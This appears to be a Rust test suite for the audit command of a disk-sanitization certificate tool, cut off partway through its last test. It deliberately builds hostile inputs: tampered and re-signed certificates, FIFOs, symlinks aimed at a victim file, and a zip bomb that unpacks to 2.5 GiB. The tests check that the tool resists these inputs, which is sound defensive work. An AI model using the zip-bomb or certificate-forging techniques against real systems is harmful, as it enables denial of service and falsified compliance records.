//! `mediasan audit`: a folder of real certificates (wipes, a purge on the simulated drive, a
//! destruction record, a countersigned one) with tampered, untrusted, truncated, misfiled,
//! future-format and badly named files beside them, a tar bundle, and an asset register;
//! OpenSSH judges every signature too.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::common::*;

/// Runs mediasan, returns the certificate it wrote in `dir`.
fn newest(env: &Env, dir: &str, before: &[PathBuf]) -> PathBuf {
    env.certificates(&env.path(dir))
        .into_iter()
        .find(|c| !before.contains(c))
        .expect("a new certificate")
}

fn sig(p: &Path) -> PathBuf {
    let mut s = p.as_os_str().to_owned();
    s.push(".sig");
    s.into()
}

struct Set {
    env: Env,
    allowed: PathBuf,
    assets: PathBuf,
    /// name -> file, for the ones the test looks up.
    files: BTreeMap<&'static str, PathBuf>,
}

/// The certificates of a day, and what went wrong with some of them.
fn make_set() -> Set {
    let env = Env::new();
    let mut files = BTreeMap::new();
    let mut wipe = |name: &'static str, tag: &str, extra: &[&str]| {
        let before = env.certificates(&env.path("certs"));
        let out = env
            .cmd()
            .args([
                "wipe",
                "--yes",
                "--create",
                "1M",
                "--cert-dir",
                "certs",
                "--operator",
                "Jane",
            ])
            .args(["--asset-tag", tag])
            .args(extra)
            .arg(env.path(&format!("{name}.img")))
            .output()
            .unwrap();
        assert!(
            out.status.code().is_some_and(|c| c <= 1),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        files.insert(name, newest(&env, "certs", &before));
    };
    wipe("a", "A-1", &[]);
    wipe("b", "A-2", &[]);
    wipe("c", "A-3", &[]);
    wipe("inc", "A-4", &["--verify", "none"]);
    // Another organization's key: authentic, but not a signer the auditor trusts.
    assert_code(
        &mediasan!(env, "keygen", "--out", &env.path("other_key")),
        0,
    );
    wipe(
        "foreign",
        "A-7",
        &["--key", env.path("other_key").to_str().unwrap()],
    );
    // A purge on the simulated drive, and a destruction record.
    let before = env.certificates(&env.path("certs"));
    let out = env
        .cmd()
        .args([
            "purge",
            "/dev/simnvme0",
            "--simulate",
            "nvme:8M:crypto",
            "--poll-interval",
            "0.02",
        ])
        .args([
            "--yes",
            "--cert-dir",
            "certs",
            "--operator",
            "Jane",
            "--asset-tag",
            "A-6",
        ])
        .output()
        .unwrap();
    assert_code(&out, 0);
    files.insert("purge", newest(&env, "certs", &before));
    let before = env.certificates(&env.path("certs"));
    assert_code(
        &mediasan!(
            env,
            "destroyed",
            "--serial",
            "WD-WCC7K0123456",
            "--model",
            "WDC WD40EFRX",
            "--method",
            "shred",
            "--facility",
            "Shred Co (NAID AAA)",
            "--witness",
            "Max",
            "--operator",
            "Jane",
            "--cert-dir",
            "certs"
        ),
        0,
    );
    files.insert("destroyed", newest(&env, "certs", &before));
    let pubkey = std::fs::read_to_string(env.pubkey()).unwrap();
    let allowed = env.path("allowed_signers");
    std::fs::write(&allowed, format!("org {pubkey}")).unwrap();
    // The second person countersigns A-1.
    assert_code(
        &mediasan!(env, "keygen", "--out", &env.path("validator")),
        0,
    );
    let validator = std::fs::read_to_string(env.path("validator.pub")).unwrap();
    std::fs::write(&allowed, format!("org {pubkey}validator {validator}")).unwrap();
    assert_code(
        &mediasan!(
            env,
            "cert",
            "countersign",
            &files["a"],
            "--key",
            &env.path("validator"),
            "--allowed-signers",
            &allowed
        ),
        0,
    );

    // What goes wrong: a copy changed after signing, a truncated one, a signature beside the
    // wrong file, a newer format signed by the trusted key, a name that is not UTF-8, a copy.
    let odd = env.path("certs/odd");
    std::fs::create_dir_all(&odd).unwrap();
    let text = std::fs::read_to_string(&files["b"]).unwrap();
    let tampered = odd.join("tampered.json");
    std::fs::write(&tampered, text.replace("\"Jane\"", "\"Joan\"")).unwrap();
    std::fs::copy(sig(&files["b"]), sig(&tampered)).unwrap();
    files.insert("tampered", tampered);
    let truncated = odd.join("truncated.json");
    std::fs::write(&truncated, &text[..text.len() / 2]).unwrap();
    std::fs::copy(sig(&files["b"]), sig(&truncated)).unwrap();
    files.insert("truncated", truncated);
    let misfiled = odd.join("misfiled.json");
    std::fs::copy(&files["c"], &misfiled).unwrap();
    std::fs::copy(sig(&files["a"]), sig(&misfiled)).unwrap();
    files.insert("misfiled", misfiled);
    let future = odd.join("future.json");
    std::fs::write(
        &future,
        text.replace("mediasan-certificate/1", "mediasan-certificate/2"),
    )
    .unwrap();
    let signed = Command::new("ssh-keygen")
        .args(["-Y", "sign", "-n", "mediasan-certificate", "-f"])
        .arg(env.path("config/mediasan/signing_key"))
        .arg(&future)
        .output()
        .unwrap();
    assert!(
        signed.status.success(),
        "{}",
        String::from_utf8_lossy(&signed.stderr)
    );
    files.insert("future", future);
    let nonutf8 = odd
        .join(<std::ffi::OsStr as std::os::unix::ffi::OsStrExt>::from_bytes(b"bad\xffname.json"));
    std::fs::copy(&files["c"], &nonutf8).unwrap();
    std::fs::copy(sig(&files["c"]), sig(&nonutf8)).unwrap();
    std::fs::write(odd.join("notes.json"), "{\"not\": \"a certificate\"}").unwrap();
    // A tar bundle, as an Ironic log bundle carries them.
    let tar = Command::new("tar")
        .arg("-czf")
        .arg(env.path("certs/bundle.tar.gz"))
        .arg("-C")
        .arg(env.path("certs"))
        .arg(files["c"].file_name().unwrap())
        .arg(sig(&files["c"]).file_name().unwrap())
        .status()
        .unwrap();
    assert!(tar.success());
    let assets = env.path("assets.csv");
    std::fs::write(
        &assets,
        "Serial,Asset Tag,Model,Rack\n,A-1,,r1\n,A-2,,r2\n,A-3,,r3\n,A-4,,r4\n,A-6,,r6\n,A-7,,r7\n\
         WD-WCC7K0123456,,WDC WD40EFRX,r8\n,A-9,,r9\n",
    )
    .unwrap();
    Set {
        env,
        allowed,
        assets,
        files,
    }
}

/// Wipes a new 1 MiB image `NAME.img` with asset tag `tag`, its certificate in `c`: PASS.
fn wiped(env: &Env, name: &str, tag: &str) {
    assert_code(
        &mediasan!(
            env,
            "wipe",
            "--yes",
            "--create",
            "1M",
            "--cert-dir",
            "c",
            "--operator",
            "J",
            "--asset-tag",
            tag,
            &env.path(&format!("{name}.img"))
        ),
        0,
    );
}

fn events(out: &std::process::Output) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

#[test]
fn an_audit_classes_every_file_reconciles_the_register_and_openssh_agrees() {
    if !have("ssh-keygen") || !have("tar") {
        skip!("ssh-keygen and tar are needed");
    }
    let s = make_set();
    let env = &s.env;
    let out = mediasan!(
        env,
        "audit",
        "certs",
        "--allowed-signers",
        &s.allowed,
        "--assets",
        &s.assets,
        "--json",
        "--qc-percent",
        "50",
        "--seed",
        "audit-2026-11",
        "--allow-image-records",
        "--csv",
        "report.csv",
        "--html",
        "report.html"
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "not clean: {err}");
    let ev = events(&out);
    let class_of = |f: &Path| -> String {
        let name = f.display().to_string();
        let e = ev
            .iter()
            .find(|e| {
                e["event"] == "audit_file"
                    && e["file"].as_str().is_some_and(|n| {
                        name.ends_with(n.trim_start_matches("certs/")) || n.ends_with(&name)
                    })
            })
            .unwrap_or_else(|| panic!("no event for {name}"));
        e["class"].as_str().unwrap().to_string()
    };
    let want = [
        ("a", "pass"),
        ("b", "pass"),
        ("c", "pass"),
        ("inc", "incomplete"),
        ("foreign", "untrusted"),
        ("purge", "pass"),
        ("destroyed", "destroyed"),
        ("tampered", "bad_signature"),
        ("truncated", "unreadable"),
        ("misfiled", "bad_signature"),
        ("future", "unknown_format"),
    ];
    for (name, class) in want {
        assert_eq!(class_of(&s.files[name]), class, "{name}");
    }
    let files: Vec<&serde_json::Value> = ev.iter().filter(|e| e["event"] == "audit_file").collect();
    let bundled = files
        .iter()
        .find(|e| e["file"].as_str().unwrap().contains("bundle.tar.gz!"))
        .unwrap();
    assert_eq!(bundled["class"], "pass");
    // c is there three times (its file, the bundle, the badly named copy): counted once.
    let c_id = read_cert(&s.files["c"]).id;
    assert_eq!(files.iter().filter(|e| e["id"] == c_id.as_str()).count(), 3);
    assert_eq!(
        files
            .iter()
            .filter(|e| e["id"] == c_id.as_str() && e["duplicate_of"].is_string())
            .count(),
        2
    );
    assert!(
        files
            .iter()
            .any(|e| e["file"].as_str().unwrap().contains("bad\\xffname.json")),
        "a non-UTF-8 name is reported, its byte shown as \\xff"
    );
    assert!(
        files.iter().any(|e| e["class"] == "ignored"),
        "notes.json is not a certificate"
    );
    let a = files
        .iter()
        .find(|e| e["id"] == read_cert(&s.files["a"]).id && e["duplicate_of"].is_null())
        .unwrap();
    assert!(
        a["validated_by"].as_str().unwrap().contains("validator"),
        "{a}"
    );

    // The register: A-1..A-3, A-6 and the destroyed drive covered; A-4 incomplete; A-7 only
    // by an untrusted signer; A-9 nothing.
    let standing: BTreeMap<String, String> = ev
        .iter()
        .filter(|e| e["event"] == "audit_asset")
        .map(|e| {
            let k = if e["serial"] == "" {
                e["asset_tag"].as_str().unwrap().to_string()
            } else {
                e["serial"].as_str().unwrap().to_string()
            };
            (k, e["standing"].as_str().unwrap().to_string())
        })
        .collect();
    for (k, v) in [
        ("A-1", "covered"),
        ("A-2", "covered"),
        ("A-3", "covered"),
        ("A-4", "incomplete"),
        ("A-6", "covered"),
        ("A-7", "missing"),
        ("WD-WCC7K0123456", "covered"),
        ("A-9", "missing"),
    ] {
        assert_eq!(standing[k], v, "{k}");
    }
    let summary = ev.last().unwrap();
    assert_eq!(summary["event"], "audit_summary");
    assert_eq!(summary["clean"], false);
    assert_eq!(summary["duplicates"], 2);
    assert_eq!(summary["qc"]["seed"], "audit-2026-11");
    assert_eq!(
        summary["qc"]["population"], 4,
        "A-1, A-2, A-3 and A-6: cleared or purged (not the destroyed one)"
    );
    assert_eq!(
        summary["qc"]["picks"].as_array().unwrap().len(),
        2,
        "ceil(50 % of 4)"
    );

    // The same seed draws the same sample.
    let again = events(&mediasan!(
        env,
        "audit",
        "certs",
        "--allowed-signers",
        &s.allowed,
        "--assets",
        &s.assets,
        "--json",
        "--qc-percent",
        "50",
        "--seed",
        "audit-2026-11",
        "--allow-image-records"
    ));
    assert_eq!(again.last().unwrap()["qc"], summary["qc"]);

    // The reports.
    let csv = std::fs::read_to_string(env.path("report.csv")).unwrap();
    assert!(
        csv.starts_with("Serial,Asset Tag,Model,Rack,standing,certificate"),
        "{csv}"
    );
    assert_eq!(
        csv.lines().count(),
        1 + 8,
        "a row per asset, nothing unexpected:\n{csv}"
    );
    assert!(
        csv.lines().any(|l| l.starts_with(",A-9,,r9,missing")),
        "{csv}"
    );
    let html = unescape_html(&std::fs::read_to_string(env.path("report.html")).unwrap());
    assert!(html.contains("NOT CLEAN") && html.contains("<svg") && html.contains("href=\"certs/"));
    assert!(
        !html.contains("file:"),
        "links are relative, never to the auditor's disk"
    );
    assert!(!html.contains('\u{1b}'));

    // OpenSSH's verdict on every signature beside a file agrees with the audit's: good exactly
    // where the audit found an authentic signature from a trusted signer.
    for e in files
        .iter()
        .filter(|e| !e["file"].as_str().unwrap().contains('!'))
    {
        let name = e["file"].as_str().unwrap();
        if name.contains("\\x") || e["class"] == "ignored" {
            continue;
        }
        let path = env.dir.path().join(name);
        let good = ["pass", "fail", "incomplete", "destroyed", "unknown_format"]
            .contains(&e["class"].as_str().unwrap());
        let verdict = Command::new("sh")
            .arg("-c")
            .arg("p=$(ssh-keygen -Y find-principals -f \"$1\" -s \"$2.sig\" < \"$2\" 2>/dev/null | head -1) && ssh-keygen -Y verify -f \"$1\" -I \"$p\" -n mediasan-certificate -s \"$2.sig\" < \"$2\"")
            .arg("sh")
            .arg(&s.allowed)
            .arg(&path)
            .output()
            .unwrap();
        assert_eq!(
            verdict.status.success(),
            good,
            "{name}: OpenSSH says {}",
            String::from_utf8_lossy(&verdict.stdout)
        );
    }
}

#[test]
fn an_audit_of_good_records_is_clean_and_bad_input_is_one_line() {
    let env = Env::new();
    for (n, tag) in [("x", "T-1"), ("y", "T-2")] {
        wiped(&env, n, tag);
    }
    env.trust_default_key();
    std::fs::write(env.path("assets.csv"), "serial,asset_tag\n,T-1\n,T-2\n").unwrap();
    let out = mediasan!(
        env,
        "audit",
        "c",
        "--assets",
        "assets.csv",
        "--allow-image-records"
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert_code(&out, 0);
    assert!(
        text.contains("CLEAN: every asset is covered") && text.contains("2 covered"),
        "{text}"
    );
    // Bad input: one line, exit 2.
    let cases: Vec<(Vec<&str>, &str)> = vec![
        (
            vec!["audit", "c", "--assets", "missing.csv"],
            "cannot read the assets",
        ),
        (vec!["audit", "nowhere"], "nowhere does not exist"),
        (
            vec!["audit", "c", "--assets", "dup.csv"],
            "line 3: asset tag \"t-1\" is already on line 2",
        ),
        (
            vec!["audit", "c", "--assets", "noserial.csv"],
            "no `serial` column",
        ),
    ];
    std::fs::write(env.path("dup.csv"), "serial,asset_tag\n,T-1\n,t-1\n").unwrap();
    std::fs::write(env.path("noserial.csv"), "asset_tag\nT-1\n").unwrap();
    for (args, want) in cases {
        let out = env.cmd().args(&args).output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert!(
            err.contains(want) && err.lines().count() == 1,
            "{args:?}: {err}"
        );
    }
    // Nobody to trust: refused, not a false CLEAN.
    let other = Env::new();
    std::fs::create_dir(other.path("c")).unwrap();
    let out = mediasan!(other, "audit", "c");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("needs to know whom to trust"));
}

#[test]
fn a_destruction_record_can_follow_a_trusted_certificate_and_a_validator_is_shown() {
    let env = Env::new();
    wiped(&env, "x", "T-9");
    let cert = env.certificates(&env.path("c")).remove(0);
    // Not trusted yet: refused.
    let out = mediasan!(
        env,
        "destroyed",
        "--from-cert",
        &cert,
        "--serial",
        "S-9",
        "--method",
        "shred",
        "--facility",
        "F",
        "--witness",
        "W",
        "--cert-dir",
        "d"
    );
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    env.trust_default_key();
    // An image has no serial of its own: it must be given.
    let out = mediasan!(
        env,
        "destroyed",
        "--from-cert",
        &cert,
        "--method",
        "shred",
        "--facility",
        "F",
        "--witness",
        "W",
        "--cert-dir",
        "d"
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("give --serial"));
    assert_code(
        &mediasan!(
            env,
            "destroyed",
            "--from-cert",
            &cert,
            "--serial",
            "S-9",
            "--method",
            "disintegrate",
            "--facility",
            "Shred Co",
            "--witness",
            "Max",
            "--particle-size",
            "2 mm",
            "--cert-dir",
            "d"
        ),
        0,
    );
    let d = read_cert(&env.certificates(&env.path("d"))[0]);
    let first = read_cert(&cert);
    assert_eq!(d.sanitization.method, "destroy");
    assert_eq!(
        d.media.asset_tag, "T-9",
        "the asset tag comes from the certificate"
    );
    assert_eq!(d.media.identity.serial, "S-9");
    let x = d.sanitization.destruction.as_ref().unwrap();
    assert_eq!(
        (x.method.as_str(), x.particle_size.as_str()),
        ("disintegrate", "2 mm")
    );
    assert_eq!(x.follows.as_deref(), Some(first.id.as_str()));
    // The validator: countersigning with the signer's own key is refused; another key works and
    // `cert verify` and `cert show` name it.
    let own = env.path("config/mediasan/signing_key");
    let out = mediasan!(env, "cert", "countersign", &cert, "--key", &own);
    assert!(String::from_utf8_lossy(&out.stderr).contains("their own key"));
    assert_code(&mediasan!(env, "keygen", "--out", &env.path("v")), 0);
    assert_code(
        &mediasan!(env, "cert", "countersign", &cert, "--key", &env.path("v")),
        0,
    );
    let again = mediasan!(env, "cert", "countersign", &cert, "--key", &env.path("v"));
    assert_eq!(again.status.code(), Some(2), "never overwritten");
    let shown = String::from_utf8_lossy(&mediasan!(env, "cert", "show", &cert).stdout).to_string();
    let fp = String::from_utf8_lossy(
        &Command::new("ssh-keygen")
            .arg("-lf")
            .arg(env.path("v.pub"))
            .output()
            .unwrap()
            .stdout,
    )
    .split_whitespace()
    .nth(1)
    .unwrap_or("")
    .to_string();
    assert!(
        shown.contains("Countersigned by") && shown.contains(&fp),
        "{shown}"
    );
    let verified =
        String::from_utf8_lossy(&mediasan!(env, "cert", "verify", &cert).stdout).to_string();
    assert!(
        verified.contains("validated (countersigned) by") && verified.contains("NOT TRUSTED"),
        "an unknown validator: {verified}"
    );
}

/// The register rows of an audit's JSON: asset tag -> (standing, notes).
fn rows(out: &std::process::Output) -> BTreeMap<String, (String, String)> {
    events(out)
        .into_iter()
        .filter(|e| e["event"] == "audit_asset")
        .map(|e| {
            (
                e["asset_tag"].as_str().unwrap().to_string(),
                (
                    e["standing"].as_str().unwrap().to_string(),
                    e["notes"].to_string(),
                ),
            )
        })
        .collect()
}

#[test]
fn a_record_of_another_drive_or_an_image_never_covers_a_drive_of_the_register() {
    let env = Env::new();
    // A trusted record of drive ST-OTHER-9 carrying drive ST-REAL-1's asset tag, and a trusted
    // image wipe carrying drive ST-REAL-2's tag: neither drive was ever sanitized.
    assert_code(
        &mediasan!(
            env,
            "destroyed",
            "--serial",
            "ST-OTHER-9",
            "--asset-tag",
            "A-1001",
            "--method",
            "shred",
            "--facility",
            "Shred Co",
            "--witness",
            "Max",
            "--operator",
            "J",
            "--cert-dir",
            "c"
        ),
        0,
    );
    wiped(&env, "img", "A-1002");
    env.trust_default_key();
    std::fs::write(
        env.path("assets.csv"),
        "serial,asset_tag\nST-REAL-1,A-1001\nST-REAL-2,A-1002\n",
    )
    .unwrap();
    let out = mediasan!(env, "audit", "c", "--assets", "assets.csv", "--json");
    assert_code(&out, 1);
    let r = rows(&out);
    assert_eq!(r["A-1001"].0, "missing", "{r:?}");
    assert!(
        r["A-1001"].1.contains("identity conflict") && r["A-1001"].1.contains("ST-OTHER-9"),
        "{r:?}"
    );
    assert_eq!(r["A-1002"].0, "missing", "{r:?}");
    assert!(r["A-1002"].1.contains("image"), "{r:?}");
}

#[test]
fn untrusted_tampered_and_unsigned_files_never_hide_a_trusted_record_and_are_tied_to_their_asset() {
    if !have("ssh-keygen") {
        skip!("ssh-keygen is needed");
    }
    let env = Env::new();
    // A trusted INCOMPLETE of A-5.
    assert_code(
        &mediasan!(
            env,
            "wipe",
            "--yes",
            "--create",
            "1M",
            "--verify",
            "none",
            "--cert-dir",
            "c",
            "--asset-tag",
            "A-5",
            &env.path("five.img")
        ),
        1,
    );
    let inc = env.certificates(&env.path("c"))[0].clone();
    // A copy of it re-signed by a key nobody trusts, named to be found first.
    assert_code(&mediasan!(env, "keygen", "--out", &env.path("other")), 0);
    let copy = env.path("c/0-copy.json");
    std::fs::copy(&inc, &copy).unwrap();
    let signed = Command::new("ssh-keygen")
        .args(["-q", "-Y", "sign", "-n", "mediasan-certificate", "-f"])
        .arg(env.path("other"))
        .arg(&copy)
        .status()
        .unwrap();
    assert!(signed.success());
    // A tampered record of A-8 and an unsigned one of A-9.
    wiped(&env, "eight", "A-8");
    wiped(&env, "nine", "A-9");
    for c in env.certificates(&env.path("c")) {
        let text = std::fs::read_to_string(&c).unwrap();
        if text.contains("\"A-8\"") {
            std::fs::write(&c, text.replace("\"PASS\"", "\"PASS\" ")).unwrap();
        }
        if text.contains("\"A-9\"") {
            std::fs::remove_file(sig(&c)).unwrap();
        }
    }
    env.trust_default_key();
    std::fs::write(
        env.path("assets.csv"),
        "serial,asset_tag\n,A-5\n,A-8\n,A-9\n",
    )
    .unwrap();
    let out = mediasan!(
        env,
        "audit",
        "c",
        "--assets",
        "assets.csv",
        "--json",
        "--allow-image-records"
    );
    assert_code(&out, 1);
    let r = rows(&out);
    assert_eq!(
        r["A-5"].0, "incomplete",
        "the trusted record decides: {r:?}"
    );
    assert!(
        r["A-5"].1.contains("0-copy.json claims to cover it, but"),
        "{r:?}"
    );
    for tag in ["A-8", "A-9"] {
        assert_eq!(r[tag].0, "missing", "{r:?}");
        assert!(r[tag].1.contains("claims to cover it, but"), "{tag}: {r:?}");
    }
    assert!(r["A-8"].1.contains("signature"), "{r:?}");
}

/// Runs `cmd` to the end, or kills it after `secs` and fails: a hang is a bug.
fn within(mut cmd: Command, secs: u64, what: &str) -> std::process::Output {
    let mut child = cmd
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let start = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed().as_secs() > secs {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{what} still runs after {secs} s: it hangs");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child.wait_with_output().unwrap()
}

fn os(b: &[u8]) -> &std::ffi::OsStr {
    <std::ffi::OsStr as std::os::unix::ffi::OsStrExt>::from_bytes(b)
}

/// A tar of (member name, bytes), in this order.
fn tar_of(path: &Path, members: &[(&[u8], Vec<u8>)]) {
    let mut t = tar::Builder::new(std::fs::File::create(path).unwrap());
    for (name, bytes) in members {
        let mut h = tar::Header::new_gnu();
        h.set_size(bytes.len() as u64);
        h.set_mode(0o644);
        h.set_path(os(name)).unwrap();
        h.set_cksum();
        t.append(&h, &bytes[..]).unwrap();
    }
    t.finish().unwrap();
}

#[test]
fn bundle_members_whose_names_differ_only_in_non_utf8_bytes_are_each_judged_and_a_name_twice_is_a_finding(
) {
    let env = Env::new();
    // A-1 wiped (PASS), then wiped again and not verified (INCOMPLETE): the latest decides.
    wiped(&env, "one", "A-1");
    let pass = env.certificates(&env.path("c"))[0].clone();
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let out = mediasan!(
        env,
        "wipe",
        "--yes",
        "--verify",
        "none",
        "--cert-dir",
        "c",
        "--operator",
        "J",
        "--asset-tag",
        "A-1",
        &env.path("one.img")
    );
    assert_code(&out, 1);
    let inc = env
        .certificates(&env.path("c"))
        .into_iter()
        .find(|c| c != &pass)
        .unwrap();
    let bytes = |p: &Path| std::fs::read(p).unwrap();
    // Both in one tar under names that differ only in a byte that is not UTF-8, the
    // INCOMPLETE first: extracted with tar, both are there.
    tar_of(
        &env.path("b.tar"),
        &[
            (b"r\xff.json", bytes(&inc)),
            (b"r\xff.json.sig", bytes(&sig(&inc))),
            (b"r\xfe.json", bytes(&pass)),
            (b"r\xfe.json.sig", bytes(&sig(&pass))),
        ],
    );
    env.trust_default_key();
    std::fs::write(env.path("assets.csv"), "serial,asset_tag\n,A-1\n").unwrap();
    let audit = |what: &str| {
        mediasan!(
            env,
            "audit",
            what,
            "--assets",
            "assets.csv",
            "--json",
            "--allow-image-records"
        )
    };
    let out = audit("b.tar");
    assert_code(&out, 1);
    let ev = events(&out);
    let files: Vec<&serde_json::Value> = ev.iter().filter(|e| e["event"] == "audit_file").collect();
    assert_eq!(files.len(), 2, "{files:?}");
    let names: Vec<&str> = files.iter().map(|e| e["file"].as_str().unwrap()).collect();
    assert!(
        names.iter().any(|n| n.ends_with("b.tar!r\\xff.json"))
            && names.iter().any(|n| n.ends_with("b.tar!r\\xfe.json")),
        "{names:?}"
    );
    assert_eq!(rows(&out)["A-1"].0, "incomplete");

    // The same member name twice (tar keeps only the last when extracting): a finding, and
    // both copies are still judged.
    tar_of(
        &env.path("twice.tar"),
        &[
            (b"r.json", bytes(&inc)),
            (b"r.json.sig", bytes(&sig(&inc))),
            (b"r.json", bytes(&pass)),
            (b"r.json.sig", bytes(&sig(&pass))),
        ],
    );
    let out = audit("twice.tar");
    assert_code(&out, 1);
    let ev = events(&out);
    let classes: Vec<(String, String)> = ev
        .iter()
        .filter(|e| e["event"] == "audit_file")
        .map(|e| (e["file"].to_string(), e["class"].to_string()))
        .collect();
    assert!(
        classes.iter().any(|(_, c)| c == "\"name_collision\""),
        "{classes:?}"
    );
    assert!(
        classes.iter().any(|(_, c)| c == "\"incomplete\"")
            && classes.iter().any(|(_, c)| c == "\"pass\""),
        "{classes:?}"
    );
    assert_eq!(rows(&out)["A-1"].0, "incomplete");
}

#[test]
fn a_fifo_or_other_special_file_is_a_finding_never_a_hang() {
    let env = Env::new();
    wiped(&env, "x", "T-1");
    wiped(&env, "y", "T-2");
    env.trust_default_key();
    let certs = env.certificates(&env.path("c"));
    // x's signature replaced by a FIFO nobody writes to; a FIFO named like a certificate.
    std::fs::remove_file(sig(&certs[0])).unwrap();
    for fifo in [sig(&certs[0]), env.path("c/z.json")] {
        nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o644)).unwrap();
    }
    let mut cmd = env.cmd();
    cmd.args(["audit", "c", "--json"]);
    let out = within(cmd, 60, "audit over a FIFO");
    assert_code(&out, 1);
    let ev = events(&out);
    let class = |name: &str| {
        ev.iter()
            .find(|e| e["event"] == "audit_file" && e["file"].as_str().unwrap().ends_with(name))
            .map(|e| (e["class"].to_string(), e["detail"].to_string()))
            .unwrap_or_else(|| panic!("no event for {name}: {ev:?}"))
    };
    let x = certs[0].file_name().unwrap().to_str().unwrap();
    let (c, d) = class(x);
    assert!(c == "\"unreadable\"" && d.contains("FIFO"), "{c} {d}");
    let (c, d) = class("z.json");
    assert!(c == "\"unreadable\"" && d.contains("FIFO"), "{c} {d}");
    // cert verify: one line, no hang.
    let mut cmd = env.cmd();
    cmd.args(["cert", "verify"]).arg(&certs[0]);
    let out = within(cmd, 60, "cert verify with a FIFO signature");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_ne!(out.status.code(), Some(0));
    assert!(err.contains("FIFO") && err.lines().count() == 1, "{err}");
}

#[test]
fn a_zip_bomb_is_a_finding_and_the_audit_stays_within_a_memory_limit() {
    use std::io::Write;
    let env = Env::new();
    wiped(&env, "x", "T-1");
    env.trust_default_key();
    let cert = env.certificates(&env.path("c"))[0].clone();
    // One member of 64 MiB of zeros (the most a certificate may be), then copied raw 40 times:
    // a 2.6 MB zip that unpacks to 2.5 GiB.
    let one = env.path("one.zip");
    {
        let mut w = zip::ZipWriter::new(std::fs::File::create(&one).unwrap());
        let o = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .large_file(false);
        w.start_file("m0.json", o).unwrap();
        let zeros = vec![0u8; 1 << 20];
        for _ in 0..64 {
            w.write_all(&zeros).unwrap();
        }
        w.finish().unwrap();
    }
    let bomb = env.path("c/bomb.zip");
    {
        let mut src = zip::ZipArchive::new(std::fs::File::open(&one).unwrap()).unwrap();
        let mut w = zip::ZipWriter::new(std::fs::File::create(&bomb).unwrap());
        for i in 0..40 {
            w.raw_copy_file_rename(src.by_index(0).unwrap(), format!("m{i}.json"))
                .unwrap();
        }
        let o = zip::write::SimpleFileOptions::default();
        w.start_file("real.json", o).unwrap();
        w.write_all(&std::fs::read(&cert).unwrap()).unwrap();
        w.start_file("real.json.sig", o).unwrap();
        w.write_all(&std::fs::read(sig(&cert)).unwrap()).unwrap();
        w.finish().unwrap();
    }
    assert!(std::fs::metadata(&bomb).unwrap().len() < 4 << 20);
    // Under a 1 GiB address-space limit.
    let base = env.cmd();
    let mut cmd = Command::new("sh");
    cmd.arg("-c")
        .arg("ulimit -v 1048576 && exec \"$@\"")
        .arg("sh")
        .arg(base.get_program())
        .args(base.get_args())
        .args(["audit", "c", "--json"])
        .current_dir(env.dir.path());
    for (k, v) in base.get_envs() {
        match v {
            Some(v) => cmd.env(k, v),
            None => cmd.env_remove(k),
        };
    }
    let out = within(cmd, 300, "audit of a zip bomb");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "a report, not a crash: {err}");
    let ev = events(&out);
    let summary = ev.last().unwrap();
    assert_eq!(summary["event"], "audit_summary", "{ev:?}");
    assert!(
        ev.iter().any(|e| e["event"] == "audit_file"
            && e["class"] == "unreadable"
            && e["detail"].as_str().unwrap().contains("bomb")),
        "the bomb is a finding: {ev:?}"
    );
}

#[test]
fn a_report_never_overwrites_evidence_never_lands_in_an_input_and_never_follows_a_symlink() {
    let env = Env::new();
    wiped(&env, "x", "T-1");
    env.trust_default_key();
    std::fs::write(env.path("assets.csv"), "serial,asset_tag\n,T-1\n").unwrap();
    let cert = env.certificates(&env.path("c"))[0].clone();
    let bundle = env.path("b.tar");
    tar_of(&bundle, &[(b"y.json", b"{}".to_vec())]);
    std::fs::write(env.path("victim.txt"), "keep me").unwrap();
    std::os::unix::fs::symlink(env.path("victim.txt"), env.path("link.csv")).unwrap();
    std::os::unix::fs::symlink(env.path("nowhere.txt"), env.path("dangling.html")).unwrap();
    std::os::unix::fs::symlink(env.path("c"), env.path("into-c")).unwrap();
    std::fs::write(env.path("old.csv"), "yesterday's report").unwrap();
    let before: Vec<(PathBuf, Vec<u8>)> = [sig(&cert), cert.clone(), bundle.clone()]
        .into_iter()
        .chain([env.path("assets.csv"), env.path("victim.txt")])
        .map(|p| {
            let b = std::fs::read(&p).unwrap();
            (p, b)
        })
        .collect();
    let sig_s = sig(&cert).to_str().unwrap().to_string();
    // (report option and path, --force?, what the one line says)
    let cases: Vec<(&str, String, bool, &str)> = vec![
        ("--csv", sig_s.clone(), false, "inside"),
        ("--csv", sig_s.clone(), true, "inside"),
        ("--html", "b.tar".into(), true, "input"),
        ("--csv", "assets.csv".into(), true, "input"),
        ("--csv", "c/new.csv".into(), true, "inside"),
        ("--csv", "into-c/new.csv".into(), true, "inside"),
        ("--csv", "link.csv".into(), true, "symbolic link"),
        ("--html", "dangling.html".into(), false, "symbolic link"),
        ("--csv", "old.csv".into(), false, "--force"),
    ];
    for (opt, path, force, want) in &cases {
        let mut cmd = env.cmd();
        cmd.args(["audit", "c", "b.tar", "--assets", "assets.csv", opt, path]);
        if *force {
            cmd.arg("--force");
        }
        let out = cmd.output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
